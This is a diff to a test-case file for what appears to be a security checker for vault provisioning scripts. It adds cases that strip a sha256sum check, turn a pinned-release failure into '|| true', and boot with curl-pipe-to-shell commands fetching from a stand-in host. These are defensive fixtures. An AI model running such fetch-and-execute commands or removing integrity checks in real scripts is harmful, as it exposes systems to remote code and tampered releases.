@@ -63,6 +63,25 @@ export const cases: RuleCases = {
           acl: "public-read",
         }),
     },
+    replacing(
+      "the release is not checked",
+      "/usr/local/lib/hardened-vault/steps.d/70-release.sh",
+      /^echo .*sha256sum.*\n/m,
+      "",
+      /unchecked/,
+    ),
+    replacing(
+      "a wrong release is forgiven",
+      "/usr/local/lib/hardened-vault/steps.d/70-release.sh",
+      '|| fail "the release is not the one that was pinned"',
+      "|| true",
+    ),
+    booting(
+      "a shell runs what it fetches",
+      'sh -c "$(curl -fsSL https://get.example.com/x)"',
+      /get\.example/,
+    ),
+    booting("a shell reads what is fetched", "bash <(curl -s https://get.example.com/x)", /get\.example/),
     userData("the bundle is not checked", /^echo .*sha256sum.*\n/m, "", /unchecked/),
     userData(
       "a wrong bundle is forgiven",
